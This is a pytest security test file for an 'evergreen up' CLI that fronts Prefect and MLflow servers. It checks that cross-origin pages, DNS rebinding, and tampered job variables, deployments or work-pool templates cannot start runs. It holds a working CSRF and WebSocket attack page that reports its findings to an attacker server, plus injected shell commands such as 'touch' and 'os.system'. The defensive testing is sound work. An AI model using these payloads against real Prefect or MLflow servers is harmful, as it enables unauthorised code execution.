"""What a page in a browser, a foreign name, and a run that somebody has bent can do to a living ``evergreen up``."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from prefect.workers.process import ProcessWorker
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from evergreen.cli import access
from evergreen.cli.processes import Up, end, running
from evergreen.web.keys import Keys

EVERGREEN = str(Path(sys.executable).parent / "evergreen")
_PATIENCE = 300
pytestmark = [pytest.mark.timeout(1800), pytest.mark.usefixtures("no_server")]

#: It asks for a run that writes a file, in every way that a page knows, and tells its own server what came of each.
PAGE = """<!doctype html><title>attack</title><iframe name="hole"></iframe>
<form method="post" target="hole" enctype="text/plain" action="{api}/deployments/{deployment}/create_flow_run">
<input name='{form}' value='"}}'></form>
<img src="{api}/flow_runs/next"><script src="{api}/health"></script>
<script>
const said = {{}}, run = JSON.stringify({run});
async function attempt(name, step) {{
  try {{ said[name] = String(await step()); }} catch (error) {{ said[name] = "refused"; }}
}}
const path = "{api}/deployments/{deployment}/create_flow_run";
const json = {{"Content-Type": "application/json"}};
const within = (socket) => new Promise((done, refuse) => {{
  socket.onopen = () => done("open"); socket.onerror = () => refuse();
}});
(async () => {{
  await attempt("read", async () => (await fetch("{api}/deployments/filter",
    {{method: "POST", headers: json, body: "{{}}"}})).text());
  await attempt("read with cookies", async () => (await fetch("{api}/deployments/filter",
    {{method: "POST", headers: json, body: "{{}}", credentials: "include"}})).text());
  await attempt("get with cookies", async () => (await fetch("{api}/health", {{credentials: "include"}})).text());
  await attempt("run", async () => (await fetch(path, {{method: "POST", headers: json, body: run}})).text());
  await attempt("run with cookies", async () => (await fetch(path,
    {{method: "POST", headers: json, body: run, credentials: "include"}})).text());
  for (const type of ["text/plain", "application/x-www-form-urlencoded"]) await attempt("blind " + type, async () =>
    (await fetch(path, {{method: "POST", mode: "no-cors", headers: {{"Content-Type": type}}, body: run,
                         credentials: "include"}})).status);
  await attempt("beacon", async () => navigator.sendBeacon(path, run) && "sent");
  for (const socket of ["events/out", "events/in", "logs/out"])
    await attempt(socket, () => within(new WebSocket("{api}/".replace("http", "ws") + socket, "prefect")));
  document.forms[0].submit();
  await attempt("mlflow", async () => (await fetch("{mlflow}/ajax-api/2.0/mlflow/experiments/create", {{method: "POST",
    headers: json, body: '{{"name": "pwned"}}', credentials: "include"}})).text());
  await fetch("/report", {{method: "POST", body: JSON.stringify(said)}});
}})();
</script>"""


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory, content: dict[str, Any]) -> Path:
    """A project with one model, which was never trained: its monitor has nothing to do and says so."""
    root = tmp_path_factory.mktemp("attacked")
    for folder in ("deployments", "expectations", "data"):
        (root / folder).mkdir()
    (root / "deployments" / "churn.yaml").write_text(content["spec"])
    (root / "expectations" / "customers.yaml").write_text(content["suite"])
    content["rows"].to_csv(root / "data" / "customers.csv", index=False)
    return root


@pytest.fixture(scope="module")
def up(root: Path) -> Iterator[Up]:
    command = [EVERGREEN, "up", "--prefect-port", "0", "--mlflow-port", "0"]
    ours = ("PREFECT_", "EVERGREEN_")
    environment = {name: value for name, value in os.environ.items() if not name.startswith(ours)}
    with (root / "up.log").open("wb") as log:
        process = subprocess.Popen(command, stdout=log, stderr=log, env=environment, cwd=root)
    try:
        until(lambda: "everything runs" in (root / "up.log").read_text() or process.poll() is not None)
        here = running(root / ".evergreen")
        assert here is not None, (root / "up.log").read_text()
        yield here
    finally:
        process.terminate()
        process.wait(timeout=_PATIENCE)
        end("no-such-mark")


def until(true: Callable[[], Any]) -> Any:
    deadline = time.monotonic() + _PATIENCE
    while not (answer := true()):
        assert time.monotonic() < deadline, "it never happened"
        time.sleep(0.2)
    return answer


def ask(root: Path, up: Up, path: str, question: dict[str, Any] | None = None, method: str | None = None) -> Any:
    """What the server answers who has the key."""
    key = Keys(access.kept(root / ".evergreen")).authorization()
    return told(f"{up.prefect}/api/{path}", question, method, Authorization=key)


def told(url: str, question: dict[str, Any] | None = None, method: str | None = None, **headers: str) -> Any:
    body = None if question is None else json.dumps(question).encode()
    while True:
        request = urllib.request.Request(url, body, {"Content-Type": "application/json", **headers}, method=method)
        try:
            with urllib.request.urlopen(request, timeout=_PATIENCE) as answer:
                return json.loads(answer.read() or b"null")
        except urllib.error.HTTPError as error:
            if error.code != 503:  # Prefect's word for a database that is busy
                raise


def monitor(root: Path, up: Up) -> str:
    """The deployment ``monitor/churn``."""
    return str(ask(root, up, "deployments/name/monitor/churn")["id"])


def runs(root: Path, up: Up) -> int:
    return int(ask(root, up, "flow_runs/count", {}))


@contextmanager
def attacker(page: str) -> Iterator[tuple[int, list[dict[str, str]]]]:
    """A server of somebody else's on this machine: its port, and what its page has told it."""
    reports: list[dict[str, str]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1], reports
        server.shutdown()


def page_against(api: str, mlflow: str, deployment: str, variables: dict[str, str]) -> str:
    run = json.dumps({"state": {"type": "SCHEDULED"}, "job_variables": variables})
    # A form as text/plain sends NAME=VALUE: so its name is the JSON up to a key that takes the "=".
    form = run[:-1].replace("'", "&#39;") + ', "name": "x'
    return PAGE.format(api=api, mlflow=mlflow, deployment=deployment, run=run, form=form)


@pytest.mark.parametrize("who", ["somebody who is signed out", "somebody who is signed in"])
def test_a_page_of_another_origin_reads_nothing_and_starts_nothing(
    who: str, root: Path, up: Up, browser: Any, tmp_path: Path
) -> None:
    if who.endswith("in"):
        for line in access.links(access.kept(root / ".evergreen"), up.prefect, up.mlflow).splitlines():
            browser.look(line.split()[1])
        assert "churn" in browser.look(f"{up.prefect}/deployments").text
    before, written = runs(root, up), tmp_path / "written"
    page = page_against(f"{up.prefect}/api", up.mlflow, monitor(root, up), {"command": f"touch {written}"})
    with attacker(page) as (port, reports):
        for name in ("127.0.0.1", "localhost"):
            with browser.showing(f"http://{name}:{port}/"):
                report = until(lambda: reports and reports.pop())
            assert report.pop("beacon") == "sent"  # to be refused there: a page is not told
            assert len(report) == 11
            assert set(report.values()) == {"refused"}, report
    assert runs(root, up) == before
    assert not written.exists()


def test_the_same_page_does_start_a_run_where_no_door_is(root: Path, up: Up, browser: Any, tmp_path: Path) -> None:
    """That the attack is one: the application behind the door, without it."""
    from evergreen.cli.servers import free_port

    port = free_port(0)
    command = [
        sys.executable,
        *["-m", "uvicorn", "--factory", "prefect.server.api.server:create_app", "--port"],
        f"{port}",
    ]
    home = {"PREFECT_HOME": str(tmp_path / "prefect"), "PREFECT_SERVER_UI_ENABLED": "false"}
    bare = f"http://127.0.0.1:{port}/api"
    with (tmp_path / "bare.log").open("wb") as log:
        process = subprocess.Popen(command, env=os.environ | home, stdout=log, stderr=log)
    try:
        until(lambda: access.answers(f"{bare}/health", "x"))
        flow = told(f"{bare}/flows/", {"name": "monitor"})["id"]
        deployment = told(f"{bare}/deployments/", {"name": "churn", "flow_id": flow})["id"]
        with (
            attacker(page_against(bare, up.mlflow, deployment, {})) as (page, reports),
            browser.showing(f"http://127.0.0.1:{page}/"),
        ):
            report = until(lambda: reports and reports.pop())
        assert told(f"{bare}/flow_runs/count", {}) > 0
        assert report["run"] != "refused"
        assert report["events/out"] == "open"
    finally:
        process.kill()
        process.wait()


def test_a_foreign_name_that_was_bent_to_this_machine_is_answered_nothing(root: Path, up: Up, browser: Any) -> None:
    """DNS rebinding: to the browser page and server are of one origin."""
    bent = "--host-resolver-rules=MAP evil.test 127.0.0.1"
    for url in (up.prefect, f"{up.prefect}/api/health", up.mlflow, f"{up.mlflow}/health"):
        assert "no name of this server" in browser.look(url.replace("127.0.0.1", "evil.test"), None, bent).text
    link = access.links(access.kept(root / ".evergreen"), up.prefect, up.mlflow).split()[1]
    assert "no name of this server" in browser.look(link.replace("127.0.0.1", "evil.test"), None, bent).text
    assert "Dashboard" in browser.look(link, None, bent).text  # which has not used the link up


def test_every_route_of_both_servers_and_every_websocket_wants_to_know_who_asks(root: Path, up: Up) -> None:
    schema = ask(root, up, "openapi.json")
    paths = ["/api" + re.sub("[{}]", "", path) for path in schema["paths"]]
    assert len(paths) > 100
    assert [path for path in [*paths, "/", "/api/health", "/api/ready", "/docs", "/ui-settings", "/assets/x.js"]
            if refused(f"{up.prefect}{path}") != 401] == []  # fmt: skip
    ways = ("/", "/health", "/version", "/graphql", "/api/2.0/mlflow/experiments/search", "/static-files/x.js",
            "/get-artifact", "/ajax-api/2.0/mlflow/runs/search", "/api/2.0/mlflow-artifacts/artifacts")  # fmt: skip
    assert [path for path in ways if refused(f"{up.mlflow}{path}") != 401] == []
    sockets = ("events/in", "events/out", "logs/out", "task_runs/subscriptions/scheduled", "no/such",
               "work_pools/evergreen/workers/connect")  # fmt: skip
    for socket in sockets:
        url = f"{up.prefect}/api/{socket}".replace("http", "ws")
        with pytest.raises(InvalidStatus) as refusal, connect(url, subprotocols=["prefect"]):  # type: ignore[list-item]
            pass
        assert refusal.value.response.status_code == 401


def refused(url: str) -> int:
    try:
        with urllib.request.urlopen(url, timeout=_PATIENCE) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code


def ended(root: Path, up: Up, **more: Any) -> tuple[str, str]:
    """How a run of the monitor ends: the kind of state, and its words."""
    question = {"state": {"type": "SCHEDULED"}, **more}
    run = ask(root, up, f"deployments/{monitor(root, up)}/create_flow_run", question)["id"]
    final = ("COMPLETED", "FAILED", "CRASHED", "CANCELLED")
    return until(
        lambda: (
            (found := ask(root, up, f"flow_runs/{run}"))["state_type"] in final
            and (found["state_type"], found["state"]["message"] or "")
        )
    )


def deploy(root: Path) -> None:
    done = subprocess.run([EVERGREEN, "deploy"], cwd=root, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_the_worker_starts_what_was_registered_and_nothing_that_somebody_has_bent(
    root: Path, up: Up, tmp_path: Path
) -> None:
    """By somebody who has the key, or has found a way round the door."""
    assert ended(root, up)[0] == "COMPLETED"
    written = tmp_path / "written"
    touch = {"command": f"touch {written}"}
    for variables, name in (
        (touch, "command"),
        ({"env": {"PYTHONPATH": "/tmp"}}, "env"),
        ({"working_dir": "/"}, "dir"),
    ):
        state, words = ended(root, up, job_variables=variables)
        assert state == "CRASHED"
        assert "the run sets job variables" in words
        assert name in words
    step = {"prefect.deployments.steps.run_shell_script": {"script": f"touch {written}"}}
    for edit in ({"job_variables": touch}, {"entrypoint": "os.system"}, {"pull_steps": [step]}):
        ask(root, up, f"deployments/{monitor(root, up)}", edit, "PATCH")
        state, words = ended(root, up)
        assert state == "CRASHED"
        assert "its job variables or its code were changed" in words
        deploy(root)
        assert ended(root, up)[0] == "COMPLETED"
    assert not written.exists()


def test_the_worker_starts_nothing_from_a_template_that_somebody_has_bent(root: Path, up: Up, tmp_path: Path) -> None:
    written, template = tmp_path / "written", ProcessWorker.get_default_base_job_template()
    template["job_configuration"]["command"] = f"touch {written}"
    ask(root, up, "work_pools/evergreen", {"base_job_template": template}, "PATCH")
    # The worker looks at the pool now and then; until it does, it starts runs as it knew it.
    refused_run = until(lambda: (found := ended(root, up))[0] == "CRASHED" and found)
    assert "the template of the work pool evergreen was changed" in refused_run[1]
    deploy(root)
    until(lambda: ended(root, up)[0] == "COMPLETED")
    assert not written.exists()


def test_the_key_stands_in_one_file_of_the_owner_and_nowhere_else(root: Path, up: Up) -> None:
    workspace = root / ".evergreen"
    key = access.kept(workspace)
    assert len(key) >= 43
    assert (workspace / "up.key").stat().st_mode & 0o777 == 0o600
    holds = [path for path in root.rglob("*") if path.is_file() and key.encode() in path.read_bytes()]
    assert holds == [workspace / "up.key"]
    for place in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            assert key.encode() not in place.read_bytes()
        except OSError:
            continue  # it has ended


def test_no_log_holds_a_link_that_signs_in(root: Path, up: Up) -> None:
    keys = Keys(access.kept(root / ".evergreen"))
    code = keys.link("mlflow")
    with urllib.request.urlopen(f"{up.mlflow}/sign-in?code={code}", timeout=_PATIENCE) as answer:
        assert answer.status == 200
    log = root / ".evergreen" / "logs" / "mlflow.log"
    until(lambda: "/sign-in" in log.read_text())
    assert code not in log.read_text()


def test_a_command_beside_it_shows_the_key_by_itself_and_one_for_another_server_does_not(root: Path, up: Up) -> None:
    status = subprocess.run([EVERGREEN, "status", "--json"], cwd=root, capture_output=True, text=True, check=True)
    assert json.loads(status.stdout)["server"] is True
    links = subprocess.run([EVERGREEN, "ui"], cwd=root, capture_output=True, text=True, check=True).stdout.split()
    with urllib.request.urlopen(links[1], timeout=_PATIENCE) as answer:
        assert answer.status == 200
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            heard.append(self.headers.get("Authorization", ""))
            self.send_error(401)

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        named = {"PREFECT_API_URL": f"http://127.0.0.1:{server.server_address[1]}/api"}
        for secret in ({}, {"PREFECT_API_AUTH_STRING": "user:word"}):
            subprocess.run(
                [EVERGREEN, "status", "--json"], cwd=root, env=os.environ | named | secret, check=True,
                capture_output=True,
            )  # fmt: skip
        server.shutdown()
    assert heard == ["", "Basic dXNlcjp3b3Jk"]
